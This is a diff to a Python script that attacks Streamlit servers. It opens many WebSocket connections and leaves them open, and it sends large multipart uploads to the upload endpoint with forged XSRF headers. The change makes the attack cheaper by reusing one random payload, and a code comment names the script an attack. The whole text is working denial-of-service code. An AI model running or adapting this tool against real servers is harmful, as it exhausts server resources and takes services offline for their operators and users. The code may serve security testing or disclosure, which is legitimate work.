@@ -62,9 +62,10 @@ def put_file(address: str, page: str, data: bytes, origin: str, cookie: str = ""
     """Send a file to a page of the server; the answer's status, 0 where the server hung up."""
     boundary, token = secrets.token_hex(8), xsrf()
     head = f'--{boundary}\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\n'.encode()
+    body = b"".join((head, data, f"\r\n--{boundary}--\r\n".encode()))
     try:
         return ask(
-            address, f"/_stcore/upload_file/{page}/{secrets.token_hex(8)}", "PUT", head + data + f"\r\n--{boundary}--\r\n".encode(),
+            address, f"/_stcore/upload_file/{page}/{secrets.token_hex(8)}", "PUT", body,
             Content_Type=f"multipart/form-data; boundary={boundary}", Origin=origin, X_Xsrftoken=token,
             Cookie="; ".join(filter(None, (f"_streamlit_xsrf={token}", cookie))),
         ).status  # fmt: skip
@@ -99,6 +100,7 @@ def begin(socket_: ClientConnection) -> None:
 def sockets_and_uploads(address: str, times: int, size: int, origin: str) -> tuple[int, int]:
     """So many sockets, each with an upload and left open; how many of each got through."""
     opened, taken = [], 0
+    data = secrets.token_bytes(size)  # made once: 2 GB of chance would cost more than the attack
     try:
         for n in range(times):
             found = open_socket(address, origin)
@@ -107,7 +109,7 @@ def sockets_and_uploads(address: str, times: int, size: int, origin: str) -> tup
                 opened.append(found)
                 begin(found)
                 page = page_of(found)
-            taken += put_file(address, page or f"page-{n}", secrets.token_bytes(size), origin) == 204
+            taken += put_file(address, page or f"page-{n}", data, origin) == 204
         return len(opened), taken
     finally:
         for one in opened:
